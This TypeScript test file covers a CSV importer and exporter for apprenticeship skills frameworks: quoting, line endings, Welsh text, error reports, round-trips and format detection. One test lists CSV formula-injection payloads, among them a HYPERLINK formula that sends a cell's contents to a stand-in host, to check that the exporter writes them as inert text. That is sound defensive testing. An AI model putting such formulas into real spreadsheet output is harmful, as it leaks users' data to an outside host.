import { expect } from '@open-wc/testing';
import { csvOmissions, detectFormat, fromCSV, importFramework, parseCsvRows, toCSV } from '../../src/importers/index.js';
import { validateFramework, type Framework } from '../../src/model/index.js';
import { BUNDLED, bundledFramework, CASE_DIR, CASE_FILES, fixtureText, IFATE_DIR, IFATE_SINGLE } from '../fixtures/importers/load.js';

const cells = (text: string, delimiter = ',') => parseCsvRows(text, delimiter).map((r) => r.cells.map((c) => c.value));

describe('CSV reading (RFC 4180)', () => {
  it('handles quotes, doubled quotes, commas and line breaks inside cells', () => {
    expect(cells('a,"b, c","say ""hi""","two\nlines",e\r\nf,,"",g')).to.deep.equal([
      ['a', 'b, c', 'say "hi"', 'two\nlines', 'e'],
      ['f', '', '', 'g'],
    ]);
  });

  it('reads CR LF, LF and CR line ends alike, and CR LF inside quotes as LF', () => {
    expect(cells('a\r\nb\nc\rd')).to.deep.equal([['a'], ['b'], ['c'], ['d']]);
    expect(cells('"x\r\ny\rz"')).to.deep.equal([['x\ny\nz']]);
  });

  it('keeps UTF-8 text: Welsh letters, other scripts, emoji', () => {
    const welsh = 'Gwybodaeth am ŵyr a ŷd; â, ê, î, ô, û, ẁ, ẃ, ẅ, ỳ, ï';
    expect(cells(`"${welsh}",領域,👩‍⚕️`)).to.deep.equal([[welsh, '領域', '👩‍⚕️']]);
  });

  it('reads semicolon- and tab-separated files when told or recognised', () => {
    expect(cells('a;"b;c"', ';')).to.deep.equal([['a', 'b;c']]);
    expect(fromCSV('Title;T\nVersion;1\n\ncode;type;statement\nK1;knowledge;"Know; well"\n').framework!.items[0].statement).to.equal('Know; well');
    expect(fromCSV('code\ttype\tstatement\nS1\tskill\tDo, well\n').framework!.items[0].statement).to.equal('Do, well');
  });

  it('refuses a quote that never closes (the rest of the file would be one cell), naming the row', () => {
    const result = fromCSV('code,statement\nK1,"never closed\nK2,second\nK3,third\n');
    const problem = result.problems.find((p) => p.code === 'csv-quote')!;
    expect(problem).to.include({ severity: 'error', path: '$.rows[2]' });
    expect(result.framework).to.equal(undefined);
  });
});

describe('fromCSV on a hand-written sheet', () => {
  const sheet = [
    'Title,Community health and wellbeing worker',
    'Reference,ST0958',
    'Version,1.0',
    'Language,en-GB',
    'Level,entry,Entry level',
    '',
    'code,type,statement,duties,parent,Level: Entry level,Level: Senior',
    'Duty 1,duty,"Promote health and wellbeing, addressing the wider determinants",,,,',
    'Duty 2,,Support people to make changes,,,,',
    'K1,knowledge,The wider social determinants of health,Duty 1,,Knows the basics,Explains them to others',
    'S1,skill,"Recognise the factors that affect a person’s health ""in context""",duty 1,,,',
    'B1,behaviour,Acts with honesty and integrity,"Duty 1; Duty 2",,,',
    'S1.1,Skills,A sub-skill,D2,S1,,',
  ].join('\r\n');

  it('builds the framework the sheet describes', () => {
    const result = fromCSV(sheet);
    const fw = result.framework!;
    expect(result.problems.map((p) => p.code)).to.deep.equal(['missing']); // no framework id: made from the title
    expect(fw.id).to.equal('community-health-and-wellbeing-worker');
    expect([fw.title, fw.reference, fw.version, fw.language]).to.deep.equal(['Community health and wellbeing worker', 'ST0958', '1.0', 'en-GB']);
    expect(fw.items.map((i) => [i.id, i.code, i.type])).to.deep.equal([
      ['D1', 'Duty 1', 'duty'],
      ['D2', 'Duty 2', 'duty'],
      ['K1', 'K1', 'knowledge'],
      ['S1', 'S1', 'skill'],
      ['B1', 'B1', 'behaviour'],
      ['S1.1', 'S1.1', 'skill'],
    ]);
    expect(fw.items[1].type, 'type from the code').to.equal('duty');
    expect(fw.items[3].statement).to.equal('Recognise the factors that affect a person’s health "in context"');
    expect(fw.items[5].parent).to.equal('S1');
    expect(fw.associations).to.deep.equal([
      { type: 'requires', source: 'D1', target: 'K1' },
      { type: 'requires', source: 'D1', target: 'S1' },
      { type: 'requires', source: 'D1', target: 'B1' },
      { type: 'requires', source: 'D2', target: 'B1' },
      { type: 'requires', source: 'D2', target: 'S1.1' },
    ]);
    expect(fw.levels).to.deep.equal([
      { id: 'entry', label: 'Entry level' },
      { id: 'senior', label: 'Senior' },
    ]);
    expect(fw.items[2].descriptors).to.deep.equal([
      { level: 'entry', text: 'Knows the basics' },
      { level: 'senior', text: 'Explains them to others' },
    ]);
    expect(validateFramework(fw).problems).to.deep.equal([]);
  });

  it('reads the same sheet with a byte order mark', () => {
    expect(fromCSV('\uFEFF' + sheet).framework).to.deep.equal(fromCSV(sheet).framework);
  });

  it('reports what it cannot use, by row and column, and carries on', () => {
    const result = fromCSV(
      ['Title,T', 'Version,1', 'Colour,blue', '', 'code,statement,parent,favourite', 'K1,,,', 'K2,Two,K9,x', 'K2,Again,,', 'X,Typeless,,'].join('\n'),
    );
    const found = result.problems.map((p) => `${p.path} ${p.code}`);
    expect(found).to.include.members([
      '$.rows[3] unknown-row',
      '$.rows[5].favourite unknown-column',
      '$.rows[6].statement missing',
      '$.rows[7].parent unknown-id',
      '$.rows[8].code duplicate-id',
      '$.rows[9].type missing',
    ]);
    expect(result.framework!.items.map((i) => i.id)).to.deep.equal(['K2', 'K2-2', 'X']);
  });

  it('reports a sheet without an items header as an error', () => {
    const result = fromCSV('Title,T\nsomething,else\n');
    expect(result.framework).to.equal(undefined);
    expect(result.problems.some((p) => p.severity === 'error' && p.code === 'no-items')).to.be.true;
  });

  it('never throws on junk', () => {
    for (const junk of ['', '\n\n', '"', '"""', ',,,', 'statement\n' + '"'.repeat(7), 'statement,statement\n,x', '\uFEFF', 'a\u0000b,statement\n1,2', 42 as unknown as string]) {
      const result = fromCSV(junk);
      if (result.framework) expect(validateFramework(result.framework).valid).to.be.true;
      else expect(result.problems.some((p) => p.severity === 'error')).to.be.true;
    }
  });
});

describe('toCSV and back', () => {
  for (const file of BUNDLED) {
    it(`gives back ${file} deep-equal (items, links, levels and descriptors, scales, rubrics, resources, lists)`, async () => {
      const fw: Framework = await bundledFramework(file);
      expect(csvOmissions(fw)).to.deep.equal([]);
      const csv = toCSV(fw);
      expect(csv.startsWith('\uFEFF')).to.be.true;
      const back = fromCSV(csv);
      expect(back.problems).to.deep.equal([]);
      expect(back.framework).to.deep.equal(fw);
    });
  }

  it('uses the requires column for duty links when their order allows, and a links table otherwise', async () => {
    const pwp: Framework = await bundledFramework('st0568-pwp.json');
    const csv = toCSV(pwp, { bom: false });
    expect(csv.split('\r\n')[0]).to.equal('Framework id,st0568');
    expect(csv).to.include('D1,Duty 1,duty,');
    expect(csv).not.to.include('source,link,target');
    const shuffled = { ...pwp, associations: [...pwp.associations!].reverse() };
    const csv2 = toCSV(shuffled);
    expect(csv2).to.include('source,link,target');
    expect(fromCSV(csv2).framework).to.deep.equal(shuffled);
  });

  it('round-trips awkward text: commas, quotes, line breaks, padding, Welsh, lists that need JSON', () => {
    const fw: Framework = {
      format: 'ksb-framework/1',
      id: 'cymraeg',
      version: '1',
      title: 'Fframwaith “Cymraeg”, gyda dyfynodau',
      language: 'cy',
      levels: [
        { id: 'l1', label: 'Lefel 1' },
        { id: 'l2', label: 'l1' }, // a label that is another level's id
      ],
      items: [
        {
          id: 'a,b',
          code: ' K1 ',
          type: 'gwybodaeth',
          statement: 'Gwybod am ŵyr, ŷd a "dyfynodau"\nar ddwy linell',
          elements: ['un; dau', '[not json'],
          notes: ['multi\nline note', '  padded  '],
          levels: ['l1', 'l2'],
          descriptors: [
            { level: 'l1', text: '=SUM(A1) stays text' },
            { level: 'l2', text: 'Ail' },
          ],
          core: false,
        },
        { id: 'b', type: 'skill', statement: '["looks", "like JSON"]', parent: 'a,b', notes: ['["a"]'] },
      ],
      associations: [{ type: 'requires', source: 'b', target: 'a,b', note: 'with, a note' }],
      itemTypes: [{ id: 'gwybodaeth', label: 'Gwybodaeth', plural: 'Gwybodaeth' }],
    };
    expect(validateFramework(fw).valid).to.be.true;
    const back = fromCSV(toCSV(fw));
    expect(back.problems).to.deep.equal([]);
    expect(back.framework).to.deep.equal(fw);
    expect(fromCSV(toCSV(fw, { delimiter: ';', bom: false, newline: '\n' }), { delimiter: ';' }).framework).to.deep.equal(fw);
  });

  it('writes no live formula: a cell a spreadsheet would run is marked as text, and read back as it was', () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', '@SUM(A1)', '+1+1', '-2+3', '\tTabbed', "'=already marked", "''=twice", "'plain apostrophe"];
    const fw: Framework = {
      format: 'ksb-framework/1',
      id: 'formulas',
      version: '1',
      title: '=1+1',
      items: hostile.map((statement, i) => ({ id: `K${i + 1}`, type: 'knowledge', statement })),
    };
    const text = toCSV(fw);
    // No cell of the written file begins with a formula character, quoted or not.
    const raw = text.split(/\r\n/).flatMap((line) => line.split(','));
    expect(raw.some((c) => /^"?[=+\-@\t]/.test(c)), 'a live formula in the file').to.equal(false);
    expect(raw).to.include("'=1+1");
    const back = fromCSV(text);
    expect(back.framework!.items.map((i) => i.statement)).to.deep.equal(hostile);
    expect(back.framework!.title).to.equal('=1+1');
  });

  it('names what the layout cannot hold', () => {
    const fw: Framework = {
      format: 'ksb-framework/1',
      id: 'x',
      version: '1',
      title: 'X',
      items: [{ id: 'a', type: 'competency', statement: 'A', description: '' }],
      rubrics: [{ item: 'a', scale: 'dreyfus', descriptors: [{ value: 2, text: 'two' }, { value: 1, text: 'one' }] }],
    };
    expect(csvOmissions(fw)).to.have.length(2);
  });
});

describe('detectFormat and importFramework', () => {
  it('recognises every fixture and bundled framework by its shape', async () => {
    for (const file of IFATE_SINGLE.slice(0, 2)) expect(detectFormat(await fixtureText(IFATE_DIR, file))).to.equal('ifate');
    for (const file of CASE_FILES) expect(detectFormat(await fixtureText(CASE_DIR, file)), file).to.equal('case');
    const st0958: Framework = await bundledFramework('st0958.json');
    expect(detectFormat(st0958)).to.equal('ksb-framework');
    expect(detectFormat(toCSV(st0958))).to.equal('csv');
    expect(detectFormat('hello, world')).to.equal(undefined);
    expect(detectFormat('{ not json')).to.equal(undefined);
  });

  it('imports any of them, and reports what it cannot read', async () => {
    const st0958: Framework = await bundledFramework('st0958.json');
    expect(importFramework(toCSV(st0958)).framework).to.deep.equal(st0958);
    expect(importFramework(st0958).framework).to.deep.equal(st0958);
    expect(importFramework(await fixtureText(CASE_DIR, CASE_FILES[2])).format).to.equal('case');
    expect(importFramework(await fixtureText(IFATE_DIR, IFATE_SINGLE[0])).framework!.items.length).to.equal(62);
    expect(importFramework({ hello: 1 }).problems[0].code).to.equal('unknown-format');
    expect(importFramework({}, 'csv').problems[0].severity).to.equal('error');
  });
});
